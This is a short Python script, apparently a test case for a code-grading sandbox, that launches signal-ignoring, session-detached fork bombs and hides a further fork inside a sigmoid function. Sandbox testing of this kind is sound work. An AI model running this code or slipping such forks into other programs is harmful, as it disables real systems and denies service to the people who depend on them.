"""Forks until refused, again and again, in children that ignore every signal and leave.

expect: sigmoid correct, ten_layers correct
"""

# %%
import os
import signal
import subprocess
import sys
import time

import numpy as np

# %%
bomb = """
import os, signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        os.fork()
        os.setsid()
    except OSError:
        pass
"""
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", bomb, "left-behind"], start_new_session=True)
time.sleep(0.5)

# %%
while True:
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    except OSError:
        break


# %%
def sigmoid(z):
    try:
        os.fork()
    except OSError:
        pass
    return 1 / (1 + np.exp(-z))


ten_layers = 0.25**10
